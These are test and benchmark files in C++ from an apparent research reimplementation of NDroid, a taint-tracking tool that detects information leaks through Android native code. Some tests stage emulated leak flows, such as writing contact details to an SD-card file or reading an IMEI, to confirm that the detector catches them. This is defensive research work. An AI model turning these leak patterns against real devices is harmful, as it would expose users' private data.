  EXPECT_EQ(mem_.read_cstr(kData + 0xFE), "123456");
}

TEST_F(LibcFixture, MemsetAndMemcmp) {
  call("memset", {kData, 'x', 5});
  EXPECT_EQ(mem_.read_cstr(kData), "xxxxx");
  put_str(kData + 0x100, "xxxxx");
  EXPECT_EQ(call("memcmp", {kData, kData + 0x100, 5}), 0u);
  mem_.write8(kData + 0x102, 'y');
  EXPECT_NE(call("memcmp", {kData, kData + 0x100, 5}), 0u);
}

TEST_F(LibcFixture, StrlenStrcpyStrcat) {
  put_str(kData, "hello");
  EXPECT_EQ(call("strlen", {kData}), 5u);
  EXPECT_EQ(call("strlen", {put_str(kData + 0x50, "")}), 0u);

  call("strcpy", {kData + 0x100, kData});
  EXPECT_EQ(mem_.read_cstr(kData + 0x100), "hello");

  put_str(kData + 0x200, " world");
  call("strcat", {kData + 0x100, kData + 0x200});
  EXPECT_EQ(mem_.read_cstr(kData + 0x100), "hello world");
}

TEST_F(LibcFixture, StrncpyPadsWithZeros) {
  put_str(kData, "ab");
  mem_.fill(kData + 0x100, 0xFF, 6);
  call("strncpy", {kData + 0x100, kData, 5});
  EXPECT_EQ(mem_.read8(kData + 0x102), 0);
  EXPECT_EQ(mem_.read8(kData + 0x104), 0);
  EXPECT_EQ(mem_.read8(kData + 0x105), 0xFF);  // untouched past n
}

TEST_F(LibcFixture, StrcmpFamilies) {
  put_str(kData, "apple");
  put_str(kData + 0x100, "apple");
  put_str(kData + 0x200, "apric");
  EXPECT_EQ(call("strcmp", {kData, kData + 0x100}), 0u);
  EXPECT_NE(call("strcmp", {kData, kData + 0x200}), 0u);
  EXPECT_EQ(call("strncmp", {kData, kData + 0x200, 2}), 0u);
  EXPECT_NE(call("strncmp", {kData, kData + 0x200, 3}), 0u);

  put_str(kData + 0x300, "APPLE");
  EXPECT_EQ(call("strcasecmp", {kData, kData + 0x300}), 0u);
  EXPECT_EQ(call("strncasecmp", {kData, kData + 0x300, 5}), 0u);
}

TEST_F(LibcFixture, StrchrStrrchrMemchr) {
  put_str(kData, "a.b.c");
  EXPECT_EQ(call("strchr", {kData, '.'}), kData + 1);
  EXPECT_EQ(call("strrchr", {kData, '.'}), kData + 3);
  EXPECT_EQ(call("strchr", {kData, 'z'}), 0u);
  EXPECT_EQ(call("memchr", {kData, 'c', 5}), kData + 4);
  EXPECT_EQ(call("memchr", {kData, 'c', 3}), 0u);
}

TEST_F(LibcFixture, Strstr) {
  put_str(kData, "send imei=35391 to host");
  put_str(kData + 0x100, "imei=");
  EXPECT_EQ(call("strstr", {kData, kData + 0x100}), kData + 5);
  put_str(kData + 0x200, "nope");
  EXPECT_EQ(call("strstr", {kData, kData + 0x200}), 0u);
  // Empty needle matches at the start.
  put_str(kData + 0x300, "");
  EXPECT_EQ(call("strstr", {kData, kData + 0x300}), kData);
}

TEST_F(LibcFixture, Atoi) {
  EXPECT_EQ(call("atoi", {put_str(kData, "42")}), 42u);
  EXPECT_EQ(call("atoi", {put_str(kData, "-17")}),
            static_cast<u32>(-17));
  EXPECT_EQ(call("atoi", {put_str(kData, "123abc")}), 123u);
  EXPECT_EQ(call("atoi", {put_str(kData, "")}), 0u);
}

TEST_F(LibcFixture, MallocFreeReuse) {
  const u32 p1 = call("malloc", {64});
  ASSERT_NE(p1, 0u);
  mem_.write32(p1, 0xDEAD);
  call("free", {p1});
  const u32 p2 = call("malloc", {64});
  EXPECT_EQ(p2, p1);  // bucket reuse
  const u32 p3 = call("malloc", {64});
  EXPECT_NE(p3, p1);
  EXPECT_GE(libc_.mallocs_performed(), 3u);
}

TEST_F(LibcFixture, CallocZeroes) {
  const u32 p = call("malloc", {16});
  mem_.fill(p, 0xAA, 16);
  call("free", {p});
  const u32 q = call("calloc", {4, 4});
  EXPECT_EQ(q, p);
  EXPECT_EQ(mem_.read32(q), 0u);
}

TEST_F(LibcFixture, ReallocPreservesPrefix) {
  const u32 p = call("malloc", {16});
  mem_.write32(p, 0xFEEDFACE);
  const u32 q = call("realloc", {p, 64});
  EXPECT_EQ(mem_.read32(q), 0xFEEDFACEu);
}

TEST_F(LibcFixture, Strdup) {
  put_str(kData, "clone me");
  const u32 p = call("strdup", {kData});
  ASSERT_NE(p, 0u);
  ASSERT_NE(p, kData);
  EXPECT_EQ(mem_.read_cstr(p), "clone me");
}

TEST_F(LibcFixture, SprintfFormats) {
  put_str(kData, "%s=%d (0x%x) %c%%");
  put_str(kData + 0x100, "imei");
  call("sprintf",
       {kData + 0x200, kData, kData + 0x100, 255, 255, '!'});
  EXPECT_EQ(mem_.read_cstr(kData + 0x200), "imei=255 (0xff) !%");
}

TEST_F(LibcFixture, SnprintfTruncates) {
  put_str(kData, "%s");
  put_str(kData + 0x100, "longvalue");
  const u32 full = call("snprintf", {kData + 0x200, 5, kData, kData + 0x100});
  EXPECT_EQ(full, 9u);
  EXPECT_EQ(mem_.read_cstr(kData + 0x200), "long");
}

TEST_F(LibcFixture, FopenFprintfFcloseWritesVfs) {
  // The PoC-2 sink sequence (paper Fig. 8): fopen -> fprintf -> fclose.
  put_str(kData, "/sdcard/CONTACTS");
  put_str(kData + 0x100, "w");
  const u32 file = call("fopen", {kData, kData + 0x100});
  ASSERT_NE(file, 0u);

  put_str(kData + 0x200, "%s %s %s ");
  put_str(kData + 0x300, "1");
  put_str(kData + 0x400, "Vincent");
  put_str(kData + 0x500, "cx@gg.com");
  call("fprintf",
       {file, kData + 0x200, kData + 0x300, kData + 0x400, kData + 0x500});
  call("fclose", {file});
  EXPECT_EQ(kernel_.vfs().content_str("/sdcard/CONTACTS"),
            "1 Vincent cx@gg.com ");
}

TEST_F(LibcFixture, FwriteFreadRoundTrip) {
  put_str(kData, "/data/blob");
  put_str(kData + 0x20, "w");
  put_str(kData + 0x30, "r");
  const u32 wf = call("fopen", {kData, kData + 0x20});
  put_str(kData + 0x100, "payload!");
  EXPECT_EQ(call("fwrite", {kData + 0x100, 1, 8, wf}), 8u);
  call("fclose", {wf});

  const u32 rf = call("fopen", {kData, kData + 0x30});
  ASSERT_NE(rf, 0u);
  EXPECT_EQ(call("fread", {kData + 0x200, 1, 8, rf}), 8u);
  EXPECT_EQ(mem_.read_cstr(kData + 0x200), "payload!");
  call("fclose", {rf});
}

TEST_F(LibcFixture, FputsFputcFgets) {
  put_str(kData, "/tmp/t");
  put_str(kData + 0x20, "w");
  const u32 wf = call("fopen", {kData, kData + 0x20});
  put_str(kData + 0x100, "line1\n");
  call("fputs", {kData + 0x100, wf});
  call("fputc", {'!', wf});
  call("fclose", {wf});
  EXPECT_EQ(kernel_.vfs().content_str("/tmp/t"), "line1\n!");

  put_str(kData + 0x30, "r");
  const u32 rf = call("fopen", {kData, kData + 0x30});
  EXPECT_EQ(call("fgets", {kData + 0x200, 64, rf}), kData + 0x200);
  EXPECT_EQ(mem_.read_cstr(kData + 0x200), "line1\n");
}

TEST_F(LibcFixture, SocketWrappersReachNetwork) {
  const u32 fd = call("socket", {2, 1, 0});
  put_str(kData, "softphone.comwave.net");
  call("connect", {fd, kData, 5060});
  put_str(kData + 0x100, "REGISTER sip:softphone.comwave.net");
  call("send", {fd, kData + 0x100, 34});
  EXPECT_EQ(kernel_.network().bytes_sent_to("softphone.comwave.net"),
            "REGISTER sip:softphone.comwave.net");
}

TEST_F(LibcFixture, SendtoPassesFifthArg) {
  const u32 fd = call("socket", {2, 2, 0});
  put_str(kData, "dns.example");
  put_str(kData + 0x100, "q");
  call("sendto", {fd, kData + 0x100, 1, kData, 53});
  ASSERT_EQ(kernel_.network().packets().size(), 1u);
  EXPECT_EQ(kernel_.network().packets()[0].dest_port, 53);
  EXPECT_EQ(kernel_.network().packets()[0].dest_host, "dns.example");
}

TEST_F(LibcFixture, LibmSoftFloat) {
  auto f2u = [](float f) { return std::bit_cast<u32>(f); };
  auto u2f = [](u32 u) { return std::bit_cast<float>(u); };
  EXPECT_NEAR(u2f(call("sqrtf", {f2u(16.0f)})), 4.0f, 1e-6);
  EXPECT_NEAR(u2f(call("sin", {f2u(0.0f)})), 0.0f, 1e-6);
  EXPECT_NEAR(u2f(call("powf", {f2u(2.0f), f2u(10.0f)})), 1024.0f, 1e-3);
  EXPECT_NEAR(u2f(call("atan2", {f2u(1.0f), f2u(1.0f)})),
              static_cast<float>(M_PI / 4), 1e-6);
}

TEST_F(LibcFixture, Sscanf) {
  put_str(kData, "42 contacts");
  put_str(kData + 0x100, "%d %s");
  const u32 n =
      call("sscanf", {kData, kData + 0x100, kData + 0x200, kData + 0x300});
  EXPECT_EQ(n, 2u);
  EXPECT_EQ(mem_.read32(kData + 0x200), 42u);
  EXPECT_EQ(mem_.read_cstr(kData + 0x300), "contacts");
}

TEST_F(LibcFixture, StrtoulAndFriends) {
  EXPECT_EQ(call("strtoul", {put_str(kData, "ff"), 0, 16}), 255u);
  EXPECT_EQ(call("atol", {put_str(kData, "98765")}), 98765u);
  EXPECT_EQ(call("sysconf", {30}), 4096u);
}

}  // namespace
}  // namespace ndroid::libc
