// Randomized cross-check of ShadowMemory against a naive reference model.
//
// ~100k mixed set/add/set_range/add_range/copy_range/clear_all operations
// are applied to both the real ShadowMemory (directory + shadow TLB +
// word-granular range ops) and a std::map<GuestAddr, Taint> reference that
// implements the byte-at-a-time semantics directly. After every operation
// the live-byte counter and both epoch counters must match exactly; taint
// values are compared at the touched range after each op and over the whole
// arena periodically and at the end.
//
// Epoch reference semantics (what the real implementation guarantees):
//  * liveness epoch: +1 whenever tainted_bytes() crosses zero in either
//    direction, at most once per operation;
//  * mutation epoch: +1 per (operation, page) whose live-byte count crosses
//    zero — the net transition of that page over the whole operation (plus
//    one bump for a clear_all that drops any live taint).
#include <gtest/gtest.h>

#include <map>
#include <random>
#include <vector>

#include "mem/shadow_memory.h"

namespace ndroid::mem {
namespace {

class RefModel {
 public:
  [[nodiscard]] Taint get(GuestAddr a) const {
    auto it = bytes_.find(a);
    return it == bytes_.end() ? kTaintClear : it->second;
  }
  [[nodiscard]] u64 tainted_bytes() const { return bytes_.size(); }
  [[nodiscard]] u64 liveness_epoch() const { return liveness_; }
  [[nodiscard]] u64 mutation_epoch() const { return mutation_; }

  void set(GuestAddr a, Taint t) {
    if (t == kTaintClear && get(a) == kTaintClear) return;  // pure no-op
    apply(a, 1, [&](GuestAddr, Taint) { return t; });
  }
  void add(GuestAddr a, Taint t) {
    if (t == kTaintClear) return;
    apply(a, 1, [&](GuestAddr, Taint old) { return old | t; });
  }
  void set_range(GuestAddr a, u32 len, Taint t) {
    apply(a, len, [&](GuestAddr, Taint) { return t; });
  }
  void add_range(GuestAddr a, u32 len, Taint t) {
    if (t == kTaintClear) return;
    apply(a, len, [&](GuestAddr, Taint old) { return old | t; });
  }
  void copy_range(GuestAddr dst, GuestAddr src, u32 len) {
    if (len == 0 || dst == src) return;
    std::vector<Taint> snap(len);
    for (u32 i = 0; i < len; ++i) snap[i] = get(src + i);
    apply(dst, len, [&](GuestAddr a, Taint) { return snap[a - dst]; });
  }
  void clear_all() {
    const bool was = !bytes_.empty();
    if (was) ++mutation_;
    bytes_.clear();
    if (was) ++liveness_;
  }

 private:
  [[nodiscard]] u32 page_live(u32 page) const {
    const GuestAddr lo = page << 12;
    u32 n = 0;
    for (auto it = bytes_.lower_bound(lo);
         it != bytes_.end() && it->first < lo + 4096; ++it) {
      ++n;
    }
    return n;
  }

  template <typename Fn>
  void apply(GuestAddr a, u32 len, Fn new_value) {
    if (len == 0) return;
    const bool was_live = !bytes_.empty();
    const u32 first_page = a >> 12;
    const u32 last_page = (a + len - 1) >> 12;
    std::vector<u32> before;
    for (u32 p = first_page; p <= last_page; ++p) before.push_back(page_live(p));
    for (u32 i = 0; i < len; ++i) {
      const Taint v = new_value(a + i, get(a + i));
      if (v == kTaintClear) {
        bytes_.erase(a + i);
      } else {
        bytes_[a + i] = v;
      }
    }
    for (u32 p = first_page; p <= last_page; ++p) {
      const u32 b = before[p - first_page];
      const u32 now = page_live(p);
      if ((b != 0) != (now != 0)) ++mutation_;
    }
    if (was_live != !bytes_.empty()) ++liveness_;
  }

  std::map<GuestAddr, Taint> bytes_;
  u64 liveness_ = 0;
  u64 mutation_ = 0;
};

TEST(ShadowMemoryProperty, MatchesNaiveReferenceModel) {
  ShadowMemory real;
  u64 real_liveness = 0;
  u64 real_mutation = 0;
  real.set_liveness_epoch_slot(&real_liveness);
  real.set_mutation_epoch_slot(&real_mutation);
  RefModel ref;

  // A small arena straddling a page boundary keeps the maps dense enough
  // that ranges overlap, alias, and cross pages constantly; a far page
  // exercises the directory and the wide-window query.
  const GuestAddr arena = 0x10000 - 0x800;
  const u32 arena_size = 0x3000;
  const GuestAddr far_page = 0x40000000;
  std::mt19937 rng(0xAD501Du);
  const auto rnd = [&](u32 bound) -> u32 {
    return static_cast<u32>(rng() % bound);
  };
  const auto rnd_addr = [&] {
    return rnd(16) == 0 ? far_page + rnd(64) : arena + rnd(arena_size);
  };
  const auto rnd_len = [&] {
    const u32 r = rnd(100);
    if (r < 60) return rnd(32);            // small, often intra-page
    if (r < 95) return rnd(1200);          // page-crossing
    return 4096 + rnd(8192);               // multi-page
  };
  const auto rnd_taint = [&]() -> Taint {
    static const Taint kLabels[] = {0, 0x1, 0x2, 0x80, 0x40000000};
    return kLabels[rnd(5)];
  };

  const auto check_range = [&](GuestAddr a, u32 len) {
    for (u32 i = 0; i < len; ++i) {
      ASSERT_EQ(real.get(a + i), ref.get(a + i)) << "addr 0x" << std::hex
                                                 << a + i;
    }
    ASSERT_EQ(real.get_range(a, len), [&] {
      Taint t = kTaintClear;
      for (u32 i = 0; i < len; ++i) t |= ref.get(a + i);
      return t;
    }());
  };

  constexpr int kOps = 100000;
  for (int op = 0; op < kOps; ++op) {
    switch (rnd(100)) {
      case 0: {  // rare full reset
        if (rnd(5) == 0) {
          real.clear_all();
          ref.clear_all();
        }
        break;
      }
      default: {
        const u32 kind = rnd(6);
        if (kind == 0) {
          const GuestAddr a = rnd_addr();
          const Taint t = rnd_taint();
          real.set(a, t);
          ref.set(a, t);
        } else if (kind == 1) {
          const GuestAddr a = rnd_addr();
          const Taint t = rnd_taint();
          real.add(a, t);
          ref.add(a, t);
        } else if (kind == 2) {
          const GuestAddr a = rnd_addr();
          const u32 len = rnd_len();
          const Taint t = rnd_taint();
          real.set_range(a, len, t);
          ref.set_range(a, len, t);
          if (op % 97 == 0) check_range(a, std::min(len, 256u));
        } else if (kind == 3) {
          const GuestAddr a = rnd_addr();
          const u32 len = rnd_len();
          const Taint t = rnd_taint();
          real.add_range(a, len, t);
          ref.add_range(a, len, t);
        } else {
          // Two copy flavours; src/dst frequently overlap inside the arena.
          const GuestAddr dst = arena + rnd(arena_size);
          const GuestAddr src =
              rnd(4) == 0 ? dst + rnd(64) - 32 : arena + rnd(arena_size);
          const u32 len = std::min(rnd_len(), arena_size);
          real.copy_range(dst, src, len);
          ref.copy_range(dst, src, len);
          if (op % 89 == 0) check_range(dst, std::min(len, 256u));
        }
        break;
      }
    }
    ASSERT_EQ(real.tainted_bytes(), ref.tainted_bytes()) << "op " << op;
    ASSERT_EQ(real_liveness, ref.liveness_epoch()) << "op " << op;
    ASSERT_EQ(real_mutation, ref.mutation_epoch()) << "op " << op;
    if (op % 5000 == 0) {
      check_range(arena, arena_size);
      check_range(far_page, 64);
    }
  }
  check_range(arena, arena_size);
  check_range(far_page, 64);
  ASSERT_EQ(real.get_range(arena, arena_size) != kTaintClear,
            real.any_tainted_in(arena, arena + arena_size));
}

}  // namespace
}  // namespace ndroid::mem