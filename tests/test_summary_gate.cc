// Summary-gated dynamic instrumentation (the static-layer feedback path):
//
//  * soundness: every Table I leak case detects exactly the same leaks
//    under summary-gated instrumentation as under seed full tracing;
//  * effectiveness: the gate skips taint-irrelevant functions in situations
//    the liveness-only fast path must trace (taint live in a register the
//    function never touches / in memory its windows cannot reach);
//  * hook pre-placement: a transparent native method gets no SourcePolicy
//    even when its arguments carry taint.
#include <gtest/gtest.h>

#include <string>

#include "apps/cfbench.h"
#include "apps/leak_cases.h"
#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

namespace ndroid {
namespace {

using dvm::kAccPublic;
using dvm::kAccStatic;

struct CaseResult {
  bool detected = false;
  std::size_t native_leaks = 0;
  std::size_t framework_leaks = 0;
};

CaseResult run_case(apps::LeakScenario (*builder)(android::Device&),
                    bool summary_gated) {
  android::Device device;
  core::NDroidConfig cfg;
  if (!summary_gated) {
    // Seed full-trace configuration: no block gating at all.
    cfg.taint_liveness_fastpath = false;
    cfg.static_summaries = false;
  }
  core::NDroid nd(device, cfg);
  const auto scenario = builder(device);
  if (summary_gated) {
    EXPECT_NE(nd.attach_static_analysis(), nullptr) << "attach failed";
  }
  device.dvm.call(*scenario.entry, {});
  CaseResult r;
  r.native_leaks = nd.leaks().size();
  r.framework_leaks = device.framework.leaks().size();
  r.detected = r.native_leaks != 0 || r.framework_leaks != 0;
  return r;
}

TEST(SummaryGate, LeakParityOnAllTable1Cases) {
  for (const auto& [name, builder] : apps::all_cases()) {
    const CaseResult full = run_case(builder, /*summary_gated=*/false);
    const CaseResult gated = run_case(builder, /*summary_gated=*/true);
    EXPECT_EQ(full.detected, gated.detected) << name;
    EXPECT_EQ(full.native_leaks, gated.native_leaks) << name;
    EXPECT_EQ(full.framework_leaks, gated.framework_leaks) << name;
    EXPECT_TRUE(gated.detected) << name << ": NDroid must detect every case";
  }
}

TEST(SummaryGate, SkipsRegTaintOutsideFunctionFootprint) {
  // Taint r8 — no cfbench workload's Table V footprint includes it, but the
  // liveness gate sees live register taint and must trace every in-scope
  // block. The summary gate proves the intersection empty and skips.
  u64 baseline_propagations = 0;
  {
    android::Device device;
    core::NDroid nd(device);
    apps::CfBenchApp app(device);
    nd.taint_engine().set_reg(8, 0x40);
    app.run(*app.find("Native MIPS"), 200);
    baseline_propagations = nd.taint_engine().propagations;
    EXPECT_EQ(nd.summary_gate_skips, 0u);  // not attached
  }
  {
    android::Device device;
    core::NDroid nd(device);
    apps::CfBenchApp app(device);
    ASSERT_NE(nd.attach_static_analysis(), nullptr);
    nd.taint_engine().set_reg(8, 0x40);
    app.run(*app.find("Native MIPS"), 200);
    EXPECT_GT(nd.summary_gate_skips, 0u);
    EXPECT_EQ(nd.taint_engine().propagations, 0u)
        << "summary-gated run must not trace taint-irrelevant blocks";
    EXPECT_EQ(nd.taint_engine().reg(8), 0x40u) << "taint must survive intact";
  }
  EXPECT_GT(baseline_propagations, 0u)
      << "liveness-only gating must have traced these blocks";
}

TEST(SummaryGate, SkipsMemTaintOutsideStaticWindows) {
  // Taint one native-heap byte far from nativeMemRead's constant windows
  // (which live inside the .so image). Liveness gating must trace every
  // block containing loads; the summary gate checks the windows against the
  // shadow pages and skips.
  android::Device device;
  core::NDroid nd(device);
  apps::CfBenchApp app(device);
  ASSERT_NE(nd.attach_static_analysis(), nullptr);
  nd.taint_engine().map().add(android::Layout::kHeapBase + 0x100, 0x80);
  app.run(*app.find("Native Memory Read"), 50);
  EXPECT_GT(nd.summary_gate_skips, 0u);
  EXPECT_EQ(nd.taint_engine().propagations, 0u);
}

TEST(SummaryGate, ConservativeWhenTaintIntersectsFootprint) {
  // Control: taint r0 — inside every workload's footprint — and the summary
  // gate must NOT license a skip; the tracer runs as before.
  android::Device device;
  core::NDroid nd(device);
  apps::CfBenchApp app(device);
  ASSERT_NE(nd.attach_static_analysis(), nullptr);
  // nativeMips touches only r0-r3; r0 guarantees intersection.
  nd.taint_engine().set_reg(0, 0x40);
  app.run(*app.find("Native MIPS"), 50);
  EXPECT_GT(nd.taint_engine().propagations, 0u)
      << "intersecting taint must keep the tracer running";
}

TEST(SummaryGate, TransparentMethodSkipsSourcePolicy) {
  android::Device device;
  core::NDroid nd(device);

  // int constant(jstring): returns 42, never reads its argument.
  apps::NativeLibBuilder lib(device, "libtrans.so");
  auto& a = lib.a();
  const GuestAddr fn_const = lib.fn();
  a.mov_imm(arm::R(0), 42);
  a.ret();
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Ltrans/App;");
  dvm::Method* constant = dvm.define_native(
      app, "constant", "IL", kAccPublic | kAccStatic, fn_const);
  dvm::Method* source = device.framework.telephony->find_method("getDeviceId");
  ASSERT_NE(source, nullptr);
  dvm::CodeBuilder cb;
  cb.invoke(source, {})
      .move_result(0)
      .invoke(constant, {0})
      .move_result(1)
      .return_void();
  dvm::Method* entry =
      dvm.define_method(app, "main", "V", kAccPublic | kAccStatic, 3, cb.take());

  const auto* gate = nd.attach_static_analysis();
  ASSERT_NE(gate, nullptr);
  const auto* summary = gate->index().find(fn_const);
  ASSERT_NE(summary, nullptr);
  EXPECT_TRUE(summary->transparent);

  device.dvm.call(*entry, {});
  EXPECT_EQ(nd.dvm_hooks().source_policies_skipped, 1u);
  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 0u);
}

TEST(SummaryGate, NonTransparentMethodStillGetsSourcePolicy) {
  // Same app shape, but the method returns its argument: args_to_ret != 0,
  // so the summary is not transparent and the policy must be built.
  android::Device device;
  core::NDroid nd(device);

  apps::NativeLibBuilder lib(device, "libid.so");
  auto& a = lib.a();
  const GuestAddr fn_id = lib.fn();
  a.mov(arm::R(0), arm::R(2));  // return the jstring argument
  a.ret();
  lib.install();

  auto& dvm = device.dvm;
  dvm::ClassObject* app = dvm.define_class("Lid/App;");
  dvm::Method* ident =
      dvm.define_native(app, "ident", "LL", kAccPublic | kAccStatic, fn_id);
  dvm::Method* source = device.framework.telephony->find_method("getDeviceId");
  ASSERT_NE(source, nullptr);
  dvm::CodeBuilder cb;
  cb.invoke(source, {})
      .move_result(0)
      .invoke(ident, {0})
      .move_result(1)
      .return_void();
  dvm::Method* entry =
      dvm.define_method(app, "main", "V", kAccPublic | kAccStatic, 3, cb.take());

  ASSERT_NE(nd.attach_static_analysis(), nullptr);
  device.dvm.call(*entry, {});
  EXPECT_EQ(nd.dvm_hooks().source_policies_skipped, 0u);
  EXPECT_EQ(nd.dvm_hooks().source_policies_created, 1u);
}

}  // namespace
}  // namespace ndroid
