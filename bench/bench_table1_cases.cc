// Regenerates Table I / Fig. 3: the detection matrix over the five
// information-flow cases, comparing TaintDroid-only against NDroid
// (and the DroidScope-style baseline, which the paper notes reports no new
// JNI flows beyond TaintDroid).
//
// Paper's result: TaintDroid detects only case 1; NDroid detects all five.
#include <cstdio>
#include <memory>

#include "apps/leak_cases.h"
#include "core/ndroid.h"
#include "droidscope/droidscope.h"

using namespace ndroid;

namespace {

struct Row {
  std::string name;
  bool evidence;
  bool taintdroid;
  bool droidscope;
  bool ndroid;
};

bool leaked_anywhere(android::Device& device) {
  if (!device.kernel.network().packets().empty()) return true;
  for (const auto& f : device.kernel.vfs().list()) {
    if (device.kernel.vfs().size(f) > 0) return true;
  }
  return false;
}

Row run_case(const std::string& name,
             apps::LeakScenario (*builder)(android::Device&)) {
  Row row{name, false, false, false, false};

  {  // TaintDroid only.
    android::Device device;
    const auto scenario = builder(device);
    device.dvm.call(*scenario.entry, {});
    row.evidence = leaked_anywhere(device);
    row.taintdroid = !device.framework.leaks().empty();
  }
  {  // DroidScope-style baseline.
    android::Device device;
    droidscope::DroidScope ds(device);
    const auto scenario = builder(device);
    device.dvm.call(*scenario.entry, {});
    row.droidscope = !device.framework.leaks().empty();
  }
  {  // NDroid (with TaintDroid, as deployed).
    android::Device device;
    core::NDroid nd(device);
    const auto scenario = builder(device);
    device.dvm.call(*scenario.entry, {});
    row.ndroid = !device.framework.leaks().empty() || !nd.leaks().empty();
  }
  return row;
}

const char* mark(bool b) { return b ? "detected" : "missed  "; }

}  // namespace

int main() {
  std::printf(
      "Table I / Fig. 3 — detection of information flows through JNI\n"
      "(paper: TaintDroid detects only case 1; NDroid detects all)\n\n");
  std::printf("%-9s %-9s %-12s %-12s %-12s\n", "case", "leaked?", "TaintDroid",
              "DroidScope", "NDroid");

  int ndroid_detected = 0, taintdroid_detected = 0;
  const auto cases = apps::all_cases();
  for (const auto& [name, builder] : cases) {
    const Row row = run_case(name, builder);
    std::printf("%-9s %-9s %-12s %-12s %-12s\n", row.name.c_str(),
                row.evidence ? "yes" : "NO?", mark(row.taintdroid),
                mark(row.droidscope), mark(row.ndroid));
    ndroid_detected += row.ndroid;
    taintdroid_detected += row.taintdroid;
  }
  std::printf(
      "\nsummary: TaintDroid %d/5, NDroid %d/5  (paper: 1/5 vs 5/5)\n",
      taintdroid_detected, ndroid_detected);
  return (ndroid_detected == 5 && taintdroid_detected == 1) ? 0 : 1;
}
