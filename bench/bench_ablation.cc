// Ablation study over NDroid's efficiency mechanisms (paper §VI-E credits
// these for NDroid's advantage over instruction-level tracking):
//   * modelling standard library functions (Table VI) instead of tracing
//     their instructions;
//   * caching hot instruction -> handler mappings (§V-C);
//   * multilevel hooking to avoid instrumenting dvmCallMethod*/dvmInterpret
//     on system-initiated invocations (§V-B, Fig. 5).
//
// Each ablation must preserve detection (when applicable) while costing
// time; the libc-heavy workload stresses the model/no-model distinction.
#include <chrono>
#include <cstdio>
#include <memory>

#include "apps/cfbench.h"
#include "apps/leak_cases.h"
#include "apps/native_lib_builder.h"
#include "core/ndroid.h"

using namespace ndroid;

namespace {

/// A libc-heavy native workload: per iteration, strcpy + strlen + memcpy
/// over a 64-byte string (the profile the Table VI models accelerate).
dvm::Method* build_libc_workload(android::Device& device) {
  apps::NativeLibBuilder lib(device, "liblibcbench.so");
  auto& a = lib.a();
  using arm::Cond;
  using arm::Label;
  using arm::LR;
  using arm::PC;
  using arm::R;

  const GuestAddr src = lib.cstr(
      "0123456789012345678901234567890123456789012345678901234567890123");
  const GuestAddr dst = lib.buffer(128);
  const GuestAddr strcpy_fn = device.libc.fn("strcpy");
  const GuestAddr strlen_fn = device.libc.fn("strlen");
  const GuestAddr memcpy_fn = device.libc.fn("memcpy");

  const GuestAddr fn = lib.fn();
  Label loop, done;
  a.push({R(4), LR});
  a.mov(R(4), R(2));
  a.bind(loop);
  a.cmp_imm(R(4), 0);
  a.b(done, Cond::kEQ);
  a.mov_imm32(R(0), dst);
  a.mov_imm32(R(1), src);
  a.call(strcpy_fn);
  a.mov_imm32(R(0), dst);
  a.call(strlen_fn);
  a.mov(R(2), R(0));
  a.mov_imm32(R(0), dst);
  a.mov_imm32(R(1), src);
  a.call(memcpy_fn);
  a.sub_imm(R(4), R(4), 1);
  a.b(loop);
  a.bind(done);
  a.mov_imm(R(0), 0);
  a.pop({R(4), PC});
  lib.install();

  dvm::ClassObject* cls = device.dvm.define_class("Lablation/LibcBench;");
  return device.dvm.define_native(cls, "run", "II",
                                  dvm::kAccPublic | dvm::kAccStatic, fn);
}

double time_run(const std::function<void()>& fn, int reps) {
  fn();  // warm-up
  double best = 1e9;
  for (int i = 0; i < reps; ++i) {
    const auto t0 = std::chrono::steady_clock::now();
    fn();
    const auto t1 = std::chrono::steady_clock::now();
    best = std::min(best, std::chrono::duration<double>(t1 - t0).count());
  }
  return best;
}

struct Variant {
  const char* name;
  core::NDroidConfig config;
};

}  // namespace

int main(int argc, char** argv) {
  const int reps = argc > 1 ? std::atoi(argv[1]) : 5;
  const u32 iters = 600;

  core::NDroidConfig full;
  core::NDroidConfig no_models;
  no_models.syslib_models = false;
  no_models.scope = core::NDroidConfig::Scope::kThirdPartyAndLibc;
  core::NDroidConfig no_cache;
  no_cache.handler_cache = false;
  core::NDroidConfig no_multilevel;
  no_multilevel.multilevel_hooking = false;

  const Variant variants[] = {
      {"NDroid (full)", full},
      {"no libc models (trace libc)", no_models},
      {"no handler cache", no_cache},
      {"no multilevel hooking", no_multilevel},
  };

  std::printf("Ablation — libc-heavy native workload, %u iterations\n\n",
              iters);
  double baseline = 0;
  for (const Variant& v : variants) {
    android::Device device;
    // Pin the seed interpretive engine: the ablations compare *per-hook*
    // costs (handler cache, models, multilevel gating), which the TB
    // engine's taint-liveness fast path would mask on untainted stretches.
    device.cpu.set_use_tb_cache(false);
    core::NDroid nd(device, v.config);
    dvm::Method* workload = build_libc_workload(device);
    const double t = time_run(
        [&] { device.dvm.call(*workload, {dvm::Slot{iters, 0}}); }, reps);
    if (baseline == 0) baseline = t;
    std::printf("%-30s %8.2f ms   (%.2fx of full NDroid)   traced=%llu\n",
                v.name, 1e3 * t, t / baseline,
                static_cast<unsigned long long>(
                    nd.tracer().instructions_traced()));
  }

  // Detection must survive every ablation (case-1' exercises models).
  std::printf("\ndetection under ablation (case 1'):\n");
  bool all_detect = true;
  for (const Variant& v : variants) {
    android::Device device;
    core::NDroid nd(device, v.config);
    const apps::LeakScenario s = apps::build_case1_prime(device);
    device.dvm.call(*s.entry, {});
    const bool detected = !device.framework.leaks().empty();
    std::printf("  %-30s %s\n", v.name, detected ? "detected" : "MISSED");
    all_detect = all_detect && detected;
  }

  // Multilevel hooking ablation (§V-B): "Since the methods dvmCallMethod*
  // and dvmInterpret may also be invoked by other codes rather than the
  // native codes under investigation, the overhead will be high if we hook
  // these two functions whenever they are called." We reproduce that
  // system-initiated traffic with a caller loop that lives INSIDE libdvm
  // (so condition T1 never holds): with multilevel hooking the chain gate
  // skips the instrumentation; without it the full method-struct parsing
  // and frame scanning run on every invocation.
  std::printf("\nmultilevel hooking vs system-initiated dvmCallMethodV "
              "traffic (1000 calls):\n");
  double ml_on = 0, ml_off = 0;
  for (const bool multilevel : {true, false}) {
    android::Device device;
    device.cpu.set_use_tb_cache(false);  // same engine pin as above
    core::NDroidConfig cfg;
    cfg.multilevel_hooking = multilevel;
    core::NDroid nd(device, cfg);

    // void tick() {} — the Java callback the "system" keeps invoking.
    dvm::ClassObject* cls = device.dvm.define_class("Lsystem/Ticker;");
    dvm::CodeBuilder cb;
    cb.return_void();
    dvm::Method* tick = device.dvm.define_method(
